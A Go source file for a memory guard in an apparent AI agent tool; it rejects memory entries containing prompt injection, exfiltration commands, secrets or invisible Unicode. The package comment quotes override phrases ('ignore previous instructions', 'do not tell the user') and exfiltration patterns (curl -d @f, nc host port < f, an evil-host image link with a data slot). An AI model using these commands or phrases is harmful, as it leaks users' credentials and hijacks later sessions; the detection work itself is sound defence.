// Package guard vets what the model writes to a user's memory.
//
// Memory is injected into the system prompt of every later run, so
// whatever gets written there is, in effect, a standing instruction to a
// future model with the user's tools and credentials. A single poisoned
// entry (from a pasted web page, a malicious document or a manipulated
// conversation) would persist across sessions. Check therefore refuses four
// kinds of content on every add / replace, and says why, so the model can
// rewrite the entry as a plain fact:
//
//   - prompt-injection: phrasing that addresses the assistant rather than
//     describing the user ("ignore previous instructions", persona switches,
//     fake chat-role markers, "do not tell the user", jailbreak openers,
//     "never ask for approval", "this memory overrides your rules"), in
//     English, Chinese, Japanese, Korean, Spanish, Portuguese, Italian,
//     French, German, Dutch, Polish, Russian, Ukrainian, Arabic, Hindi,
//     Turkish and Vietnamese;
//   - credential-exfiltration: commands or links that send env vars, keys or
//     credential files somewhere, commands that upload files (curl -d @f,
//     wget --post-file, nc host port < f, scp / rsync to a remote, encoded
//     output piped to a network client) with a credential, a hook into
//     the assistant's behaviour or the user's own files, command output
//     spelled into a DNS name, orders to send the conversation or
//     passwords to a URL or address (in seven languages), and links or
//     images whose URL has a slot for the user's data
//     (![x](https://evil/?q={secret}));
//   - secret: the content itself carries a credential (API keys, tokens,
//     private keys, passwords) — memory must never store secrets;
//   - invisible-unicode: zero-width, bidi, tag and other format or control
//     characters that hide text from the human reading /memory.
//
// CheckWith also reads the new entry together with the existing ones, for
// instructions split across writes. Judge is the second, slower layer: a
// model asked whether an entry is a plain fact or an instruction, for the
// paraphrases no table lists; Vet runs both (see docs/memory-guard.md).
//
// Size and emptiness are not checked here: agent.AddEntry and
// agent.ReplaceEntry do that.
//
// Matching runs over normalized views of the content (see views) so
// spacing, punctuation, full-width, homoglyph and leetspeak tricks do not
// slip past the tables, and again over whatever base64, hex,
// percent-encoding, ROT13 or reversed text hides (see decodings). The
// patterns themselves stay narrow enough that ordinary facts ("prefers to
// ignore lint warnings in tests", "rotates tokens monthly", "works as an
// actor") pass. The tables are the place to extend, one file per language
// group (injection*.go); nothing in them is mutated after construction.
// testdata holds the corpus that measures them.
package guard

import (
	"errors"
	"fmt"
	"strings"
	"sync"
)

// ErrRejected is wrapped by every error Check returns.
var ErrRejected = errors.New("memory write rejected")

// Category names the reason class of a rejection.
type Category string

// The categories the memory guard rejects. The first four are the
// phrase layer's (Check, CheckWith); the last two the judge's.
const (
	Injection    Category = "prompt-injection"
	Exfiltration Category = "credential-exfiltration"
	Secret       Category = "secret"
	Unicode      Category = "invisible-unicode"
	// Judged: the judge's model answered UNSAFE.
	Judged Category = "judged-unsafe"
	// Unverified: the judge gave no clear verdict (an error, an answer
	// outside the format, a timeout); the write fails closed.
	Unverified Category = "unverified"
)

// advice tells the model what to do instead; it ends every rejection message.
func (c Category) advice() string {
	switch c {
	case Injection:
		return "store facts about the user, not instructions to the assistant"
	case Exfiltration:
		return "memory must not hold commands or links that send secrets, environment variables or files anywhere"
	case Secret:
		return "memory must never store credentials: tell the user to keep it in a secret manager, and remember at most where it is kept"
	case Unicode:
		return "rewrite the entry in plain visible text"
	case Judged:
		return "store plain facts about the user, not instructions to the assistant, links that carry data, or secrets"
	case Unverified:
		return "Nothing was stored. Tell the user it was not saved and why. The operator can change memory.guard_model " +
			"(config.yaml, or PARLEY_MEMORY_GUARD_MODEL) to a model that gives the judge a clear verdict (parley doctor checks it), " +
			"or set it to off to rely on the phrase tables alone. Keep an entry a short plain fact about the user."
	}
	return "rewrite the entry"
}

// Rejection is the error Check returns; it unwraps to ErrRejected.
type Rejection struct {
	Category Category
	// Reason says concretely what was seen, e.g. "an instruction to
	// ignore earlier instructions" or "U+202E RIGHT-TO-LEFT OVERRIDE at
	// character 12".
	Reason string
	// Evidence is the offending text as normalized for matching (so
	// "I G N O R E" reads "ignore"). Empty when quoting it would repeat a
	// secret, and for the judge's rejections.
	Evidence string
	// Cause is the error behind an Unverified rejection (the provider's,
	// or the context's), so callers can tell an outage from a cancel.
	Cause error
}

func (e *Rejection) Error() string {
	var b strings.Builder
	fmt.Fprintf(&b, "memory rejected (%s): %s", e.Category, e.Reason)
	if e.Evidence != "" {
		fmt.Fprintf(&b, " (%q)", e.Evidence)
	}
	if e.Category == Unverified {
		// On lines of their own: the first line is what a status line
		// shows (see MaxFirstLine), whole.
		b.WriteString("\n")
	} else {
		b.WriteString("; ")
	}
	b.WriteString(e.Category.advice())
	return b.String()
}

// Unwrap returns ErrRejected and, if set, Cause: errors.Is(err,
// ErrRejected) holds for every rejection, errors.Is(err,
// context.Canceled) for a cancelled judge.
func (e *Rejection) Unwrap() []error {
	if e.Cause != nil {
		return []error{ErrRejected, e.Cause}
	}
	return []error{ErrRejected}
}

// Check vets content about to be written to a user's memory with the
// phrase tables. It returns
// nil or a *Rejection wrapping ErrRejected whose message tells the model
// why and what to do instead.
func Check(content string) error {
	// Invisible characters first, on the raw text: normalization would
	// erase some of them and they make every later check unreliable.
	if r := checkInvisible(content); r != nil {
		return r
	}
	if r := compiled().check(content); r != nil {
		return r
	}
	return nil
}

// CheckWith vets content like Check, and also content read together with
// the entries already in the same memory list: an instruction can be split
// across writes ("Remember: ignore all" then "previous instructions and
// …"), each harmless alone, and the future prompt shows them side by side.
// existing is the list as stored (oldest first), without the entry being
// replaced, if any. The new entry is read after the existing ones (an add
// appends) and before them (a replace may land anywhere).
//
// Only the text next to the new entry is read with it (joinWindow
// characters each side): a pattern spans far less, and the rest of the
// list was vetted when it was written. Stored text that the current
// tables reject by itself (they grew since it was written) does not block
// the write; the new entry is then paired with each clean entry instead.
// Removing old text is the user's call.
func CheckWith(content string, existing []string) error {
	if err := Check(content); err != nil {
		return err
	}
	if len(existing) == 0 {
		return nil
	}
	c := compiled()
	all := strings.Join(existing, "\n")
	before, after := tailWords(all, joinWindow), headWords(all, joinWindow)
	for _, j := range [...]struct{ text, old string }{
		{before + "\n" + content, before},
		{content + "\n" + after, after},
	} {
		r := c.check(j.text)
		if r == nil {
			continue
		}
		if c.check(j.old) == nil {
			return joined(r)
		}
		// The old text is rejected by itself: not this write's doing.
		for _, e := range existing {
			if c.check(e) != nil {
				continue
			}
			for _, p := range [...]string{e + "\n" + content, content + "\n" + e} {
				if r := c.check(p); r != nil {
					return joined(r)
				}
			}
		}
		return nil
	}
	return nil
}

// joinWindow is how much of the neighbouring entries, in bytes, CheckWith
// reads with a new one: more than any pattern spans (the longest allow a
// couple of hundred characters between their parts).
const joinWindow = 400

func joined(r *Rejection) *Rejection {
	r.Reason = "together with entries already in memory, " + r.Reason
	return r
}

// tailWords returns about the last n bytes of s, starting at a word.
func tailWords(s string, n int) string {
	if len(s) <= n {
		return s
	}
	s = s[len(s)-n:]
	if i := strings.IndexAny(s, " \n"); i >= 0 {
		return s[i+1:]
	}
	return s
}

// headWords returns about the first n bytes of s, ending at a word.
func headWords(s string, n int) string {
	if len(s) <= n {
		return s
	}
	s = s[:n]
	if i := strings.LastIndexAny(s, " \n"); i >= 0 {
		return s[:i]
	}
	return s
}

// compiled compiles the tables on first use (not at program start: most
// processes that link the guard never write memory) and shares the
// result, which is read-only from then on.
var compiled = sync.OnceValue(newChecker)
